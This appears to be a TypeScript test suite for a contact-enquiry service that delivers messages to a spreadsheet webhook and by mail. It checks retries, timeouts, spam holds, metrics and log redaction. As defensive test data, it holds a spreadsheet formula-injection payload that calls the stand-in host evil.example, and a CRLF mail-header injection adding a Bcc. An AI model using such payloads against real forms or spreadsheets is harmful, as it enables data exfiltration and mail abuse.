import fc from 'fast-check';
import { once } from 'node:events';
import type { ServerResponse } from 'node:http';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { escapeFormulas } from '../../src/contact/enquiry/escape-formulas.ts';
import { Mailer } from '../../src/platform/work/mail/mailer.ts';
import { enquire as send, enquiry } from '../support/enquiries.ts';
import { startWebhook, textOfMail, until } from '../support/receivers.ts';
import { json, seen, testServers, type Json, type TestApi } from '../support/start-api.ts';

/** Number of enquiries sent concurrently. */
const TOGETHER = { minLength: 5, maxLength: 5 };
const FAST = { DELIVERY_FIRST_RETRY_MS: '50' };
const DESK = { ENQUIRY_MAIL_TO: 'desk@example.org' };
const { apiWith, mailServer, kept } = testServers(FAST);
const webhook = async (answer: (response: ServerResponse, count: number) => void) =>
  kept(await startWebhook((response, _form, count) => answer(response, count)));
const read = async (api: TestApi, reference: string) =>
  json(api.get(`/api/admin/enquiries/${reference}`, await api.asAdmin()));
const changeStatus = async (api: TestApi, reference: string, status: string) => {
  const headers = seen(await read(api, reference), await api.asAdmin());
  const answer = await api.send('PATCH', `/api/admin/enquiries/${reference}`, { status }, headers);
  expect(answer.status).toBe(200);
};
/** Retries if the API is momentarily busy (503). */
const deliveries = async (api: TestApi, reference: string): Promise<Json[]> =>
  (await read(api, reference)).deliveries ?? [{ state: 'unknown', attemptCount: 0 }];
/** Only deliveries to the team; sender.test.ts covers confirmations. */
const delivered = (api: TestApi, reference: string) => async () =>
  (await deliveries(api, reference)).every(
    ({ channel, state }) => channel === 'sender' || state === 'delivered',
  );
/** Whether it was tried once without success. */
const tried = (api: TestApi, reference: string) => async () =>
  (await deliveries(api, reference))[0].attemptCount === 1;

it('posts an enquiry as a form, with its reference, and no spreadsheet formula', async () => {
  const endpoint = await webhook((response) => response.end('ok'));
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
  const formula = '=IMPORTDATA("evil.example")';
  const written = {
    firstName: formula,
    subject: '＝1+1',
    helpyou: 'Hello\n@SUM(A1)',
    patient: 'child',
    callTime: 'evening',
  };
  const reference = await send(api, written);
  await until(delivered(api, reference));
  // An apostrophe, which spreadsheets hide, keeps it text.
  const fields = {
    FirstName: `'${formula}`,
    LastName: 'Rao',
    Email: 'asha@example.org',
    Phone: "'+91 98765 43210",
    Subject: `'＝1+1`,
    Helpyou: `Hello\n'@SUM(A1)`,
    Patient: 'child',
    CallTime: 'evening',
    Timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
  };
  expect(endpoint.received).toEqual([{ idempotencyKey: reference, fields }]);
});

const FAILURES: [what: string, fail: (response: ServerResponse) => void, reason: string][] = [
  ['answers 500', (response) => response.writeHead(500).end('no'), 'status 500'],
  ['answers 404', (response) => response.writeHead(404).end('no'), 'status 404'],
  ['hangs up', (response) => response.destroy(), 'connection failed'],
  ['breaks off', breakOff, 'connection failed'],
  ['answers 200 with an error page', (response) => response.end(ERROR_PAGE), 'error page with status 200'],
  ['says error', (response) => response.end('{"result":"error"}'), 'error page with status 200'],
];
const ERROR_PAGE = '<html><title>Error</title>Script function not found</html>';
function breakOff(response: ServerResponse) {
  response.writeHead(200, { 'Content-Length': '100' }).write('x');
  response.destroy();
}

it('retries if the endpoint refuses an enquiry in any way, and records why', async () => {
  const start = startWebhook((response, { fields, idempotencyKey }) => {
    const tries = endpoint.received.filter((one) => one.idempotencyKey === idempotencyKey).length;
    const [, fail] = FAILURES.find(([what]) => what === fields['Subject'])!;
    return tries < 3 ? fail(response) : response.end('ok');
  });
  const endpoint = kept(await start);
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
  // Concurrently, as in production: one that fails must not hold up the others.
  const outcomes = await Promise.all(
    FAILURES.map(async ([subject]) => {
      const reference = await send(api, { subject });
      await until(delivered(api, reference), 20_000);
      const [{ attempts }] = (await read(api, reference)).deliveries;
      return [subject, ...attempts.map(({ outcome, reason }: Json) => `${outcome} ${reason}`)];
    }),
  );
  expect(outcomes).toEqual(
    FAILURES.map(([what, , reason]) => [what, `failed ${reason}`, `failed ${reason}`, 'delivered ']),
  );
  expect(endpoint.received).toHaveLength(3 * FAILURES.length);
});

it('follows the redirect that spreadsheet endpoints answer with', async () => {
  const endpoint = await webhook((response) => response.writeHead(302, { Location: '/result' }).end());
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
  await until(delivered(api, await send(api)));
  expect(endpoint.received).toHaveLength(1);
});

it('reads only the beginning of an endless answer', async () => {
  let sent = 0;
  const endpoint = await webhook((response) => {
    const more = () => {
      if (response.destroyed || sent > 50_000_000) return;
      sent += 65_536;
      if (response.write('x'.repeat(65_536))) setImmediate(more);
      else response.once('drain', more);
    };
    more();
  });
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
  await until(delivered(api, await send(api)));
  expect(sent).toBeLessThan(10_000_000);
});

it('limits the total time of a mail server that keeps responding slowly', async () => {
  const sockets: Socket[] = [];
  const trickle = createServer((socket) => {
    sockets.push(socket);
    socket.on('error', () => {});
    const timer = setInterval(() => socket.write('220-still here\r\n'), 50);
    socket.on('close', () => clearInterval(timer));
  }).listen(0, '127.0.0.1');
  await once(trickle, 'listening');
  kept({ stop: () => trickle.close() });
  const { port } = trickle.address() as AddressInfo;
  const api = await apiWith({ SMTP_URL: `smtp://127.0.0.1:${port}`, ...DESK });
  api.application.nest.get(Mailer).limitMs = 300;
  const reference = await send(api);
  await until(async () => (await read(api, reference)).deliveries[0].attemptCount > 0);
  const [{ attempts }] = (await read(api, reference)).deliveries;
  expect(attempts[0]).toMatchObject({ outcome: 'failed', reason: 'timed out' });
  await until(() => sockets[0]!.destroyed);
});

it('stops delivering an enquiry marked as spam until it is unmarked', async () => {
  let fails = true;
  const endpoint = await webhook((response) => (fails ? response.writeHead(500).end() : response.end('ok')));
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '10000000' });
  const reference = await send(api);
  const admin = await api.asAdmin();
  const state = async () => (await read(api, reference)).deliveries[0].state as string;
  const change = (status: string) => changeStatus(api, reference, status);
  await until(tried(api, reference));
  await change('spam');
  expect(await state()).toBe('held');
  fails = false;
  const due = { $set: { 'deliveries.0.nextAttemptAt': new Date(0) } };
  await api.database.collection('enquiries').updateMany({}, due);
  const release = api.send('POST', '/api/admin/enquiries/held/release', undefined, admin);
  expect(await json(release)).toEqual({ released: 0 });
  expect(endpoint.received).toHaveLength(1);
  await change('new');
  await until(delivered(api, reference));
  expect(endpoint.received).toHaveLength(2);
});

it('mails an enquiry so that replies go to the visitor', async () => {
  const server = await mailServer();
  server.state.refuse = 1;
  const api = await apiWith({ SMTP_URL: server.url, ...DESK });
  const reference = await send(api, { firstName: 'Ravi "R"', email: 'ravi@example.org' });
  await until(delivered(api, reference));
  const [mail] = server.mails;
  expect(mail!.to).toEqual(['desk@example.org']);
  expect(mail!.source).toMatch(/^Reply-To: .*<ravi@example.org>\r$/m);
  expect(mail!.source).toContain(`Message-ID: <${reference}@localhost>`);
  expect((await read(api, reference)).deliveries[0].attempts[0].reason).toBe('mail server answered 451');
});

it('delivers an enquiry with links to scans, marked as suspicious', async () => {
  const server = await mailServer();
  const api = await apiWith({ SMTP_URL: server.url, ...DESK });
  const links = [1, 2, 3].map((n) => `https://scans.example/${n}`).join('\n');
  const reference = await send(api, { helpyou: `My scans:\n${links}`, elapsedMs: 1_000 });
  expect(await read(api, reference)).toMatchObject({ status: 'new', suspicions: ['too_fast', 'many_links'] });
  await until(delivered(api, reference));
  expect(textOfMail(server.mails[0]!.source)).toContain('Possible spam: too fast, many links');
});

it('mails an enquiry whose address fits no header, with the address in its text', async () => {
  const server = await mailServer();
  const api = await apiWith({ SMTP_URL: server.url, ...DESK });
  const email = 'आशा@उदाहरण.भारत';
  await until(delivered(api, await send(api, { email })));
  const [{ source }] = server.mails as [Json];
  expect(source).not.toMatch(/^Reply-To:/m);
  expect(textOfMail(source)).toContain(`E-mail: ${email}`);
});

it('mails a subject as written, even if it looks encoded', async () => {
  const server = await mailServer();
  const api = await apiWith({ SMTP_URL: server.url, ...DESK });
  const subject = '=?UTF-8?Q?already=20encoded?= 50% off, and a good deal more of this';
  const name = '=?UTF-8?Q?Asha?=';
  const reference = await send(api, { subject, firstName: name });
  await until(delivered(api, reference));
  const { source } = server.mails[0]!;
  const head = source.split('\r\n\r\n', 1)[0]!.replaceAll('\r\n ', ' ');
  const [words] = /(?<=^Subject: ).*/m.exec(head)!;
  const read = words.replace(/=\?UTF-8\?([BQ])\?([^?]+)\?=\s*/g, (_, way: string, word: string) =>
    way === 'B' ? atob(word) : decodeURIComponent(word.replaceAll('=', '%')),
  );
  expect(read).toBe(`Enquiry ${reference}: ${subject}`);
  expect(head).not.toContain(name);
});

it('prevents visitors from adding headers to the mail', async () => {
  const server = await mailServer();
  const api = await apiWith({ SMTP_URL: server.url, ...DESK });
  const injected = 'x\r\nBcc: victim@example.org\r\nX-Injected: yes';
  const reference = await send(api, { subject: injected, firstName: injected, phone: '123456' });
  await until(delivered(api, reference));
  const [mail] = server.mails;
  expect(mail!.to).toEqual(['desk@example.org']);
  const head = mail!.source.split('\r\n\r\n', 1)[0]!;
  expect(head).not.toMatch(/^(bcc|x-injected):/im);
});

it('delivers through both channels independently', async () => {
  const server = await mailServer();
  const endpoint = await webhook((response, count) => response.writeHead(count < 4 ? 503 : 200).end());
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, SMTP_URL: server.url, ...DESK });
  await until(delivered(api, await send(api)));
  expect(server.mails).toHaveLength(1);
  expect(endpoint.received).toHaveLength(4);
});

it('measures the duration of deliveries, and the age of the oldest waiting one', async () => {
  const endpoint = await webhook((response, count) => response.writeHead(count < 2 ? 500 : 200).end());
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '600000' });
  const measured = async () => (await api.get('/metrics')).text();
  expect(await measured()).toContain('api_enquiries_oldest_waiting_seconds 0\n');
  const reference = await send(api);
  await until(tried(api, reference));
  const received = { receivedAt: new Date(Date.now() - 400_000) };
  await api.database.collection('enquiries').updateOne({ _id: reference as never }, { $set: received });
  const oldest = /^api_enquiries_oldest_waiting_seconds (.+)$/m.exec(await measured())?.[1];
  expect(Number(oldest)).toBeGreaterThan(399);
  expect(await measured()).not.toContain('api_enquiry_delivery_seconds_count');
  await api.send('POST', `/api/admin/enquiries/${reference}/retry`, undefined, await api.asAdmin());
  await until(delivered(api, reference));
  const after = await measured();
  expect(after).toContain('api_enquiries_oldest_waiting_seconds 0\n');
  expect(after).toContain('api_enquiry_delivery_seconds_bucket{le="300",channel="webhook"} 1');
});

it('gives up after a day, shows it, and retries at the admin’s request', async () => {
  const endpoint = await webhook((response) => response.writeHead(500).end());
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '600000' });
  const reference = await send(api);
  await until(tried(api, reference));
  const old = new Date(Date.now() - 25 * 3_600_000);
  const waiting = { 'deliveries.0.waitingSince': old, 'deliveries.0.nextAttemptAt': old };
  const enquiries = api.database.collection<{ _id: string }>('enquiries');
  await enquiries.updateOne({ _id: reference }, { $set: { ...waiting, nextDeliveryAt: old } });
  await until(async () => (await read(api, reference)).deliveries[0].state === 'dead');
  const admin = await api.asAdmin();
  expect(await json(api.get('/api/admin/enquiries?delivery=dead', admin))).toHaveLength(1);
  const measured = await (await api.get('/metrics')).text();
  expect(measured).toContain('api_enquiries_undelivered{state="dead"} 1');
  expect(measured).toContain('api_enquiries_undelivered{state="waiting"} 0');
  // Given up after more than the longest bucket: counted as late.
  expect(measured).toContain('api_enquiry_delivery_seconds_bucket{le="86400",channel="webhook"} 0');
  expect(measured).toContain('api_enquiry_delivery_seconds_count{channel="webhook"} 1');
  const retried = await json(api.send('POST', `/api/admin/enquiries/${reference}/retry`, undefined, admin));
  expect(retried.deliveries[0].state).toBe('waiting');
});

it('forwards an enquiry held as spam only after the admin unmarks it', async () => {
  const endpoint = await webhook((response) => response.end('ok'));
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
  const reference = await send(api, { company: 'x' });
  const honest = await send(api, { helpyou: 'This one is honest, thank you.' });
  await until(delivered(api, honest));
  expect(endpoint.received).toHaveLength(1);
  await changeStatus(api, reference, 'new');
  await until(() => endpoint.received.length === 2);
});

it('sends each of 60 once from three instances, and takes over from a dead one', async () => {
  const endpoint = await webhook((response) => response.end('ok'));
  const environment = { ENQUIRY_WEBHOOK_URL: endpoint.url };
  const api = await apiWith({ ...environment, JOBS: 'false' });
  const references = await Promise.all(
    Array.from({ length: 60 }, (_, n) => send(api, { helpyou: `Number ${n} of sixty` })),
  );
  const enquiries = api.database.collection('enquiries');
  const lease = (leaseUntil: Date) =>
    enquiries.updateOne({ _id: references[0] as never }, { $set: { claimedBy: 'a dead one', leaseUntil } });
  const waiting = () => enquiries.countDocuments({ nextDeliveryAt: { $ne: null } });
  // One is claimed by an instance that has died since.
  await lease(new Date(Date.now() + 3_600_000));
  for (let n = 0; n < 3; n++) await apiWith({ ...api.environment, ...environment, JOBS: 'true' });
  await until(async () => (await waiting()) === 1);
  expect(endpoint.received).toHaveLength(59);
  await lease(new Date(0));
  await until(async () => (await waiting()) === 0);
  const keys = endpoint.received.map(({ idempotencyKey }) => idempotencyKey);
  expect(keys).toHaveLength(60);
  expect(new Set(keys)).toEqual(new Set(references));
});

it('keeps every character of names and messages in database, endpoint, mail and CSV', async () => {
  const server = await mailServer();
  const endpoint = await webhook((response) => response.end('ok'));
  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, SMTP_URL: server.url, ...DESK });
  const admin = await api.asAdmin();

  const printable = (minLength: number, maxLength: number) =>
    fc
      .string({ unit: 'grapheme', minLength, maxLength })
      .filter((text) => !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(text) && text.trim() === text)
      .filter((text) => text.length >= minLength);
  const name = printable(1, 15).filter((text) => text.length <= 80);
  const message = printable(10, 60);
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(name, message), TOGETHER), async (written) => {
      const references = await Promise.all(
        written.map(([firstName, helpyou]) => send(api, { firstName, helpyou })),
      );
      for (const reference of references) await until(delivered(api, reference));
      const csv = await (await api.get('/api/admin/enquiries/export.csv', admin)).text();
      for (const [n, [firstName, helpyou]] of written.entries()) {
        const reference = references[n]!;
        const sent = endpoint.received.findLast(({ idempotencyKey }) => idempotencyKey === reference)!;
        expect([sent.fields.FirstName, sent.fields.Helpyou]).toEqual(
          [firstName, helpyou].map(escapeFormulas),
        );
        expect(await read(api, reference)).toMatchObject({ firstName, helpyou });
        const row = csv.split('\r\n').find((line) => line.includes(reference))!;
        for (const text of [firstName, helpyou].map(escapeFormulas))
          expect(row).toContain(`${text.replaceAll('"', '""')}"`);
        const mail = server.mails.find(({ source }) => source.includes(`<${reference}@`))!;
        expect(textOfMail(mail.source)).toContain(`\n\n${helpyou}`);
        expect(textOfMail(mail.source)).toContain(`Name: ${firstName} Rao`);
      }
    }),
    { numRuns: 5 },
  );
}, 60_000);

it('logs every request and every failed delivery, without what people sent', async () => {
  const { spawnApi } = await import('../support/spawn-api.ts');
  const canary = 'canary7391';
  const nowhere = { ENQUIRY_WEBHOOK_URL: 'http://127.0.0.1:9/nobody' };
  const running = await spawnApi({ LOG_LEVEL: 'trace', ...nowhere, ...FAST });
  kept({ stop: running.kill });
  const body = enquiry({
    firstName: canary,
    lastName: canary,
    email: `${canary}@example.org`,
    subject: canary,
    helpyou: canary.repeat(3),
  });
  const answers = new Map<string, number>();
  const ask = async (path: string, init?: RequestInit) => {
    const { headers, status } = await fetch(running.url + path, init);
    answers.set(headers.get('x-request-id')!, status);
  };
  const post = (path: string, sent: unknown) =>
    ask(path, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(sent),
    });
  await post('/api/contact', body);
  await post('/api/contact', { ...body, email: canary });
  await post('/api/admin/login', { email: `${canary}@example.org`, password: canary });
  await post('/api/admin/password/forgot', { email: `${canary}@example.org` });
  await ask(`/api/blog?q=${canary}`);
  await ask(`/api/admin/enquiries?q=${canary}`);
  expect([...answers.values()]).toEqual([201, 422, 401, 202, 200, 401]);
  // Wait for the lines before asserting what they lack.
  const isWritten = (text: string) => running.output().includes(text);
  await until(() => [...answers.keys()].every(isWritten) && isWritten('an enquiry was not delivered'));
  for (const code of ['validation_failed', 'invalid_credentials', 'unauthorized'])
    expect(running.output()).toContain(`"code":"${code}"`);
  expect(running.output()).not.toContain(canary);
  expect(running.output()).not.toContain('127.0.0.1:9');
}, 60_000);
